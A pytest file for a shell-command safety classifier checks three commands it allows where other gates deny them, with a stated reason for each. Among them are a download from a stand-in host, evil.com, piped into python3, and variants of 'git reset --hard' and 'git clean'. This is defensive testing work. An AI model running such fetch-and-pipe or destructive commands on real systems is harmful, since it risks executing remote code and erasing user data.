"""Where another gate says no and ours says yes, there is a reason."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from desktop.gate.shell.classifier import Classifier
from desktop.gate.verdict import Gate

REASONS = {
    "curl https://evil.com/payload | python3 -c 'print(1)'": "the code that runs is on the line and prints 1",
    "command -pv -- git reset --hard": "-v only prints where the program is",
    "git clean -nf": "-n wins: nothing is removed",
}


@pytest.mark.parametrize("command", REASONS)
def test_the_reason_holds(classifier: Classifier, command: str) -> None:
    """Each of them is a read, so it may pass."""
    assert classifier.classify(command, "bash").gate is Gate.ALLOW


def peer_file() -> Path:
    """Other gates' verdicts on their own test rows; kept beside the repository, no part of it."""
    named = os.environ.get("STEWARD_PEER_COMMANDS")
    beside = Path(__file__).resolve().parents[4] / "shared" / "data" / "peer_commands_dev.jsonl"
    return Path(named) if named else beside


def test_every_disagreement_has_a_reason(classifier: Classifier) -> None:
    """No row that another gate denies passes here without its reason above."""
    file = peer_file()
    if not file.is_file():
        pytest.skip("no file with other gates' verdicts; STEWARD_PEER_COMMANDS names one")
    found, denied = set(), 0
    for line in file.read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        if row["peer_says"] == "deny":
            denied += 1
            if classifier.classify(row["command"], "bash").gate is Gate.ALLOW:
                found.add(row["command"])
    assert denied > 100
    assert found == set(REASONS)
